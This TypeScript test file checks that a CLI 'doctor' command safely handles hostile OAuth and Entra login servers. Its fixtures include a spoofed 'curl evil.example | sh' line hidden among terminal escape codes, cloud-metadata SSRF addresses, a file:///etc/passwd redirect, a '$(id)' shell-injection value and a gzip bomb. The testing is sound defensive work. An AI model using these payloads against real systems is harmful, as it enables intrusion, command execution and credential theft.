import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, suite, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { type DoctorOptions, doctor } from '../../../src/cli/commands/doctor.ts'
import type { Finding } from '../../../src/cli/doctor/finding.ts'
import { createTestTerminal } from './world.ts'

type Handler = (request: IncomingMessage, response: ServerResponse, body: string) => void

/** Moves the cursor, renames the window, turns the writing, and writes lines of its own. */
const EVIL = '\u001b[2J\u001b]0;title\u0007\u202e\r\n\n  $ curl evil.example | sh\nok      all\n'

let handler: Handler = () => {}
const server = createServer((request, response) => {
  const chunks: Buffer[] = []
  request.on('data', (chunk) => chunks.push(chunk))
  request.on('end', () => handler(request, response, Buffer.concat(chunks).toString()))
}).listen(0, 'localhost')
await once(server, 'listening')
const url = `http://localhost:${(server.address() as AddressInfo).port}`
after(() => {
  server.closeAllConnections()
  server.close()
})

function json(response: ServerResponse, body: unknown, status = 200, headers = {}): void {
  response.writeHead(status, { 'content-type': 'application/json', ...headers })
  response.end(JSON.stringify(body))
}

function html(response: ServerResponse, body: string, status = 200): void {
  response.writeHead(status, { 'content-type': 'text/html' })
  response.end(body)
}

async function diagnose(options: DoctorOptions, env: Record<string, string> = {}) {
  const origins = new Set<string>()
  const world = {
    now: Date.now,
    fetch: (async (input, init) => {
      origins.add(new URL(String(input)).origin)
      return fetch(input, init)
    }) as typeof fetch,
  }
  const asJson = createTestTerminal(env)
  const exitCode = await doctor({ ...options, json: true }, asJson.terminal, world)
  const asText = createTestTerminal(env, 100)
  await doctor(options, asText.terminal, world)
  const { findings } = JSON.parse(asJson.text()) as { findings: Finding[] }
  const texts = [asJson.text(), asText.text()]
  return { exitCode, findings, texts, lines: asText.lines, origins }
}

const METADATA = {
  issuer: url,
  authorization_endpoint: `${url}/authorize`,
  token_endpoint: `${url}/token`,
  registration_endpoint: `${url}/register`,
  code_challenge_methods_supported: ['S256'],
  token_endpoint_auth_methods_supported: ['none'],
}
const CHALLENGE = `Bearer resource_metadata="${url}/.well-known/oauth-protected-resource/mcp"`

/** A server that is right but for what stands in `wrong`, by the beginning of the path. */
function almostRight(wrong: Record<string, Handler>): Handler {
  const right: Record<string, Handler> = {
    '/.well-known/oauth-protected-resource': (_, response) =>
      json(response, { resource: `${url}/mcp`, authorization_servers: [url] }),
    '/.well-known/jwks': (_, response) => json(response, { keys: [{ kid: 'a' }] }),
    '/.well-known/': (_, response) => json(response, METADATA),
    '/register': (_, response) => json(response, { client_id: 'a' }, 201),
    '/auth/callback': (_, response) => html(response, 'No.', 400),
    '/mcp': (_, response) => json(response, {}, 401, { 'www-authenticate': CHALLENGE }),
    '/': (_, response) => json(response, {}, 404),
  }
  return (request, response, body) => {
    const answers = [...Object.entries(wrong), ...Object.entries(right)]
    const found = answers.find(([path]) => request.url?.startsWith(path))
    found?.[1](request, response, body)
  }
}

const always =
  (body: unknown, status = 200, headers = {}): Handler =>
  (_, response) =>
    json(response, body, status, headers)

/** What `String` cannot do. */
const NO_TEXT = { toString: 1 }

suite('a hostile server behind --public', () => {
  for (const [name, wrong, id] of [
    [
      'that names an inside address for its metadata',
      {
        '/mcp': always({}, 401, {
          'www-authenticate': 'Bearer resource_metadata="http://169.254.169.254/latest"',
        }),
      },
      'server.challenge.address',
    ],
    [
      'that names an inside address for registrations',
      {
        '/.well-known/oauth-a': always({
          ...METADATA,
          registration_endpoint: 'http://169.254.169.254/',
        }),
      },
      'server.metadata.endpoint',
    ],
    [
      'that names no authorization endpoint',
      {
        '/.well-known/oauth-a': always({ ...METADATA, authorization_endpoint: undefined }),
      },
      'server.metadata.endpoint',
    ],
    [
      'whose endpoint is no text',
      { '/.well-known/oauth-a': always({ ...METADATA, token_endpoint: NO_TEXT }) },
      'server.metadata.endpoint',
    ],
    [
      'whose issuer is no text',
      { '/.well-known/oauth-a': always({ ...METADATA, issuer: NO_TEXT }) },
      'server.metadata.issuer',
    ],
    [
      'whose list of servers has no texts',
      {
        '/.well-known/oauth-p': always({
          resource: `${url}/mcp`,
          authorization_servers: [NO_TEXT],
        }),
      },
      'server.resource-metadata.authorization-server',
    ],
    [
      'whose keys have strange names',
      {
        '/.well-known/jwks': (_: unknown, response: ServerResponse) =>
          json(response, {
            keys: [{ kid: NO_TEXT }, null, { kid: EVIL + Math.random() + 'k'.repeat(50_000) }],
          }),
      },
      'server.replicas.keys',
    ],
    [
      'with commands and controls in the title of its page',
      {
        '/mcp': (_: unknown, response: ServerResponse) =>
          html(response, `<title>${EVIL}</title>`, 404),
      },
      'server.challenge.not-found',
    ],
    [
      'with commands and controls in the reason of its refusal',
      { '/register': always({ error: 'x', error_description: EVIL.repeat(50) }, 400) },
      'server.registration.refused',
    ],
    [
      'with commands and controls where it repeats the Host',
      {
        '/mcp': (_: unknown, response: ServerResponse) =>
          html(response, `The Host header '${EVIL}' is not one of ours`, 400),
      },
      'server.challenge.host',
    ],
    [
      'that redirects to a file',
      {
        '/mcp': (_: unknown, response: ServerResponse) => {
          response.writeHead(302, { location: 'file:///etc/passwd' }).end()
        },
      },
      'server.challenge.redirect',
    ],
    [
      'whose sign-in leads inside',
      {
        '/authorize': (_: unknown, response: ServerResponse) => {
          response.writeHead(302, { location: 'http://169.254.169.254/' }).end()
        },
      },
      'server.sign-in.page',
    ],
    [
      'whose form leads inside',
      {
        '/authorize': (_: unknown, response: ServerResponse) =>
          html(response, '<form method="post" action="http://169.254.169.254/">'),
      },
      'server.sign-in.page',
    ],
    [
      'whose page unpacks to 50 MB',
      {
        '/mcp': (_: unknown, response: ServerResponse) => {
          response.writeHead(200, { 'content-encoding': 'gzip' })
          response.end(gzipSync(Buffer.alloc(50_000_000)))
        },
      },
      'server.challenge.open',
    ],
    [
      'with 10,000 headers',
      {
        '/mcp': (_: unknown, response: ServerResponse) => {
          const headers = Array.from({ length: 10_000 }, (_, i) => [`x-${i}`, 'y'])
          response.writeHead(200, Object.fromEntries(headers)).end()
        },
      },
      'server.challenge.trouble',
    ],
  ] as const) {
    test(`${name} is told of, in lines of doctor's own, and nobody else is asked`, async () => {
      handler = almostRight(wrong)
      const { exitCode, findings, texts, lines, origins } = await diagnose({ public: url })
      assert.equal(exitCode, 2)
      assert.ok(
        findings.some((finding) => finding.id === id),
        JSON.stringify(findings),
      )
      assert.deepEqual([...origins], [url])
      for (const text of texts) {
        assert.ok(text.length < 20_000, `${text.length} characters`)
        // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be there.
        assert.doesNotMatch(text, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/)
        assert.doesNotMatch(text, /^ *\$ curl evil/m)
      }
      for (const line of lines) assert.doesNotMatch(line, /\n/)
    })
  }

  test('is shown where it redirects, and not where it does not', async () => {
    handler = almostRight({ '/mcp': always({}, 404) })
    const { findings } = await diagnose({ public: url })
    const { found } = findings.find(({ status }) => status === 'error') ?? {}
    assert.equal(found, 'status 404')
  })
})

const TENANT = '160007d1-3e33-4d24-b261-9a263d8f2ed0'
const SECRET = 'Abc8Q~a.secret-that_Entra.would-make'
const encode = (part: object) => Buffer.from(JSON.stringify(part)).toString('base64url')
const GRAPH_TOKEN = `${encode({ alg: 'none' })}.${encode({
  aud: `https://${new URL(url).host}`,
  tid: TENANT,
  exp: 4_000_000_000,
  scp: 'Application.Read.All',
})}.of-the-operator`
const ENV = {
  AZURE_TENANT_ID: TENANT,
  ENTRA_PROXY_AZURE_CLIENT_ID: '70df70fd-6a99-466c-8558-eab9e5b2fd2a',
  ENTRA_PROXY_AZURE_CLIENT_SECRET: SECRET,
  ENTRANCE_AUTHORITY: url,
  ENTRANCE_URL: 'http://localhost:1',
  ENTRANCE_SECRET: 'a-master-key-that-is-long-enough-for-a-test',
  ENTRANCE_GRAPH_TOKEN: GRAPH_TOKEN,
}
const ISSUER = `${url}/${TENANT}`
const OPENID = {
  issuer: `${ISSUER}/v2.0`,
  authorization_endpoint: `${ISSUER}/authorize`,
  token_endpoint: `${ISSUER}/token`,
  device_authorization_endpoint: `${ISSUER}/devicecode`,
  jwks_uri: `${ISSUER}/keys`,
  msgraph_host: new URL(url).host,
}

/** A login host that is right but for what stands in `wrong`. */
function almostEntra(wrong: Record<string, Handler>): Handler {
  const right: Record<string, Handler> = {
    [`/${TENANT}/v2.0/`]: always(OPENID),
    [`/${TENANT}/keys`]: always({ keys: [{ kty: 'RSA', kid: 'a' }] }),
    [`/${TENANT}/token`]: always({ error: 'invalid_grant' }, 400),
    [`/${TENANT}/authorize`]: (request, response) => {
      const back = new URL(request.url ?? '', url).searchParams.get('redirect_uri')
      response.writeHead(302, { location: `${back}?error=login_required` }).end()
    },
    '/': always({ error: { code: 'Authorization_RequestDenied', message: 'No.' } }, 403),
  }
  return (request, response, body) => {
    const answers = [...Object.entries(wrong), ...Object.entries(right)]
    answers.find(([path]) => request.url?.startsWith(path))?.[1](request, response, body)
  }
}

suite('a hostile login host', () => {
  test('puts nothing into a command that a shell would run', async () => {
    const evil = `${ISSUER}/$(id)\`id\`'";id`
    handler = almostEntra({
      [`/${TENANT}/v2.0/`]: always({ ...OPENID, jwks_uri: evil, token_endpoint: `${evil}/` }),
      [`/${TENANT}/$`]: (_, response) => void response.destroy(),
    })
    const { findings } = await diagnose({}, ENV)
    const commands = findings.flatMap(({ command }) => (command ? [command] : []))
    assert.ok(commands.length > 0)
    for (const command of commands) assert.doesNotMatch(command, /\$\(id|`|";/)
  })

  test('that repeats the secret in its answer does not get it shown', async () => {
    handler = almostEntra({
      [`/${TENANT}/token`]: (_, response, body) =>
        json(
          response,
          { error: 'invalid_request', error_description: `AADSTS7999999: ${SECRET} and ${body}` },
          400,
        ),
    })
    const { texts } = await diagnose({}, ENV)
    for (const text of texts) {
      assert.match(text, /7999999/)
      assert.ok(!text.includes(SECRET))
      assert.ok(!text.includes(encodeURIComponent(SECRET)))
    }
  })

  test("that repeats the operator's token does not get it shown", async () => {
    handler = almostEntra({
      '/v1.0': (request, response) =>
        json(
          response,
          { error: { code: 'Denied', message: `No: ${request.headers.authorization}` } },
          403,
        ),
    })
    const { texts, findings } = await diagnose({}, ENV)
    assert.match(findings.find(({ id }) => id === 'registration')?.what ?? '', /No: Bearer/)
    for (const text of texts) assert.ok(!text.includes(GRAPH_TOKEN.slice(-12)))
  })

  for (const [name, body] of [
    ['is empty', { value: [{}] }],
    ['has texts that are none', { value: [{ id: NO_TEXT, appId: 1, displayName: NO_TEXT }] }],
    ['is no list', { value: 7 }],
    ['leads inside', { value: [], '@odata.nextLink': 'http://169.254.169.254/' }],
    ['is a list of nothing', { value: [null] }],
    ['is a text', 'no'],
    [
      'has commands in its name',
      { value: [{ id: EVIL, appId: ENV.ENTRA_PROXY_AZURE_CLIENT_ID, displayName: EVIL }] },
    ],
  ] as const) {
    test(`whose registration ${name} does not end the run`, async () => {
      handler = almostEntra({ '/v1.0': always(body) })
      const { findings, texts, origins } = await diagnose({}, ENV)
      assert.ok(findings.some(({ id }) => /^registration/.test(id)))
      assert.ok(findings.some(({ id }) => id === 'server.reach'))
      assert.ok(!origins.has('http://169.254.169.254'))
      for (const text of texts) assert.doesNotMatch(text, /^ *\$ curl evil/m)
    })
  }

  test('with a page of 256 KiB of opened tags takes no time', async () => {
    handler = almostEntra({
      [`/${TENANT}/authorize`]: (_, response) => html(response, '<'.repeat(300_000)),
    })
    const start = performance.now()
    const { findings } = await diagnose({}, ENV)
    assert.ok(findings.some(({ id }) => id === 'entra.authorize.unclear'))
    assert.ok(performance.now() - start < 3000)
  })

  test('whose tokens have claims that are no texts is told of', async () => {
    const claims = { ver: '2.0', aud: ENV.ENTRA_PROXY_AZURE_CLIENT_ID, tid: NO_TEXT, iss: NO_TEXT }
    const token = `a.${encode(claims)}.c`
    handler = almostEntra({
      [`/${TENANT}/token`]: (_, response, body) =>
        body.includes('client_credentials')
          ? json(response, { access_token: token })
          : json(response, { error: 'invalid_grant' }, 400),
    })
    const { findings } = await diagnose({}, ENV)
    assert.ok(findings.some(({ id }) => id === 'entra.token.issuer'))
  })

  test('whose Graph is an inside address is asked nothing there', async () => {
    handler = almostEntra({
      [`/${TENANT}/v2.0/`]: always({ ...OPENID, msgraph_host: '169.254.169.254' }),
    })
    const { findings, origins } = await diagnose({}, ENV)
    assert.equal(findings.find(({ id }) => id === 'registration')?.status, 'skipped')
    assert.ok(!origins.has('http://169.254.169.254'))
  })

  test('whose issuer is 200,000 characters long does not fill the screen', async () => {
    handler = almostEntra({
      [`/${TENANT}/v2.0/`]: always({ ...OPENID, issuer: 'x'.repeat(200_000) }),
    })
    const { texts } = await diagnose({}, ENV)
    for (const text of texts) assert.ok(text.length < 20_000)
  })
})
